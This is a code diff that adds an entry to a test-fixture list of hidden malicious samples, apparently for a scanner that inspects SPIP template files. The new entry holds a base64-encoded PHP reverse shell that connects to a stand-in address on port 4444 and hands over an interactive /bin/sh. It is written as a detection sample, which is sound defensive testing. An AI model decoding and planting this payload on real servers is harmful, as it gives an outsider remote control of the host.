@@ -168,6 +168,15 @@ export const hiddenSamples: readonly Sample[] = [
     expect: ['php-remote-code'],
   },
   {
+    name: 'a shell for somebody elsewhere',
+    path: 'squelettes/mes_fonctions.php',
+    zone: 'template',
+    mayHoldCode: true,
+    base64:
+      'PD9waHAgZXhpdDsgJHMgPSBmc29ja29wZW4oIjIwMy4wLjExMy43IiwgNDQ0NCk7ICRwID0gcHJvY19vcGVuKCIvYmluL3NoIC1pIiwgYXJyYXkoMCA9PiAkcywgMSA9PiAkcywgMiA9PiAkcyksICRwaXBlcyk7',
+    expect: ['php-remote-code'],
+  },
+  {
     name: 'a dropper',
     path: 'squelettes/mes_fonctions.php',
     zone: 'template',
